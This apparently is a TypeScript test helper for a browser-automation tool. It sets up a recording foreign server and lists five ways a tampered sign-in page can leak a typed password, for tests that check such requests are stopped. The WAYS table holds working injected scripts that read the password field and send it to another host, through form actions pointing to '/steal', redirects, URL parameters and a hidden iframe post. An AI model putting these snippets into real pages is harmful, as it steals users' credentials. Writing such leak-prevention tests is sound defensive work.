import type { WalkRequest } from '../../helpers/browser/browser-walk.ts'
import { test as base, foreign, type Walker } from './browser-test.ts'
import { signInPage, USER, type Wishes } from './consent-pages.ts'
import { page, type Service, to } from './service.ts'

export const SECRET = 'c0rrect-horse-battery'
const variables = { ...USER, CONSENT_PASSWORD: SECRET }

/** A server of another party, which no configuration names. */
interface Abroad {
  readonly origin: string
  /** The requests that it received, as `METHOD path body`. */
  readonly sent: readonly string[]
}

export const test = base.extend<{ readonly abroad: Abroad }>({
  abroad: async ({ service }, use) => {
    const sent: string[] = []
    const own = await service(({ method, url, body }) => {
      sent.push(`${method} ${url.pathname}${url.search} ${body}`)
      const headers = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' }
      return { headers, body: page('Sign in', FIELD) }
    })
    await use({ origin: foreign(own), sent })
  },
})

export const FIELD =
  '<label>User name <input name="user"></label><label>Password <input type="password"></label>'

type Instead = NonNullable<Wishes['instead']>
type Alter = (html: string) => string

/** Walks through pages with an altered log-in page. The user's password occurs in no other text. */
export const walkThrough = (
  session: Walker,
  alter: Alter,
  instead: Instead = {},
  walk: Partial<WalkRequest> = {},
): ReturnType<Walker['through']> => {
  const pages = {
    'GET /sign-in': () => alter(signInPage()),
    'POST /sign-in': () => to('/provider', 303, { 'set-cookie': 'signed-in=1; Path=/' }),
    ...instead,
  }
  return session.through(pages, { variables, ...walk })
}

export const submit =
  (script: string): Alter =>
  (html) =>
    `${html}<script>document.forms[0].onsubmit = (event) => { const pw = document.querySelector('[type=password]').value; ${script} }</script>`

/** Runs a script before the form is sent. The typed password is in `pw`. */
export const sending = (script: string): Alter =>
  submit(
    `event.preventDefault(); const run = async () => { ${script} }; run().catch(() => {}).then(() => event.target.submit())`,
  )

export const asItIs: Alter = (html) => html

const BOTH = '<consent_username#*>, <consent_password#*>'

/** Ways in which a page can send typed values to another host, and how the reason describes them. */
export const WAYS: readonly (readonly [
  what: string,
  says: string,
  alter: (abroad: string) => Alter,
  instead?: (abroad: string) => Instead,
])[] = [
  [
    'a form that posts to another host',
    `POST ABROAD with ${BOTH}`,
    (abroad) => (html) => html.replace('action="/sign-in"', `action="${abroad}/steal"`),
  ],
  [
    'a form that is redirected to another host',
    `POST ABROAD with ${BOTH}`,
    () => asItIs,
    (abroad) => ({ 'POST /sign-in': () => to(`${abroad}/steal`, 307) }),
  ],
  [
    'a script that opens an address with typed values on another host',
    'GET ABROAD with <consent_password#*>',
    (abroad) =>
      submit(
        `event.preventDefault(); location.href = '${abroad}/next?x=' + encodeURIComponent(btoa('nadia:' + pw))`,
      ),
  ],
  [
    'a pop-up that is redirected to another host',
    'GET ABROAD with <consent_password#*>',
    () => submit("event.preventDefault(); window.open('/on?x=' + pw)"),
    (abroad) => ({ '/on': ({ url }) => to(`${abroad}/next${url.search}`) }),
  ],
  [
    'a form in a frame that posts to another host',
    'POST ABROAD for a frame with <consent_password#*>',
    (abroad) =>
      submit(
        `event.preventDefault(); document.body.innerHTML = '<iframe name=f></iframe><form target=f method=post enctype=multipart/form-data action="${abroad}/steal"><input name=x></form>'; document.forms[0].x.value = pw; document.forms[0].submit()`,
      ),
  ],
]

/** The reason for a stopped request. */
export const stopped = (says: string, own: Service, abroad: string) =>
  new RegExp(
    `${says} from the page at ${own.origin} was not sent`
      .replace(/[.?()[\]/]/g, '\\$&')
      .replace('ABROAD', abroad)
      .replaceAll('*', '[0-9a-f]{10}'),
  )
